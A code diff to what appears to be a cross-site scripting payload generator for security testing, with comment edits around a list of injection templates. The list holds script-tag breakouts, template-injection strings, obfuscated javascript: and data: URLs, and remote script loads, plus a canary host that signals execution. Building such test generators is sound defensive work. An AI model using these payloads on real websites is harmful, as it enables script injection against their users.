@@ -1,7 +1,7 @@
 /** A host that does not exist: a request to it proves that a payload was executed. */
 export const CANARY = "canary.example";
 
-/** Code that leaves a trace when executed: a watched function call, a dialog, a request. */
+/** Code with a visible effect when executed: a watched function call, a dialog, a request. */
 const CODES = (id: number): readonly string[] => [
   `__xss(${id})`,
   `alert(${id})`,
@@ -59,7 +59,7 @@ const TEMPLATES: readonly string[] = [
   ...["\u2028CODE\u2029", '"}]};CODE;//', "\\u003c/script>\\u003cscript>CODE\\u003c/script>"],
   ...["</script/><script>CODE</script>", "{{constructor.constructor('CODE')()}}", "<%= CODE %>#{CODE}", "*/CODE/*"],
   "\r\nCODE\r\n",
-  // Addresses.
+  // URLs.
   ...["javascript:CODE", "JaVaScRiPt:CODE", " javascript:CODE", "\u0001javascript:CODE", "java\nscript:CODE"],
   ...["javascript&colon;CODE", "javascript://%0aCODE", "data:text/html,<script>CODE</script>", "vbscript:CODE"],
   ...['https://HOST/"onerror="CODE', "//HOST/x.js", "/\\HOST/x.js", "https://HOST/?<script>CODE</script>"],
@@ -86,7 +86,6 @@ const TEMPLATES: readonly string[] = [
 /** Templates that swallow everything after them. */
 const isLast = (template: string) => /^<(?:plaintext|!--)/.test(template);
 
-/** `count` different script payloads. */
 export const payloads = (count: number): string[] =>
   Array.from({ length: count }, (_, at) => {
     const codes = CODES(at);
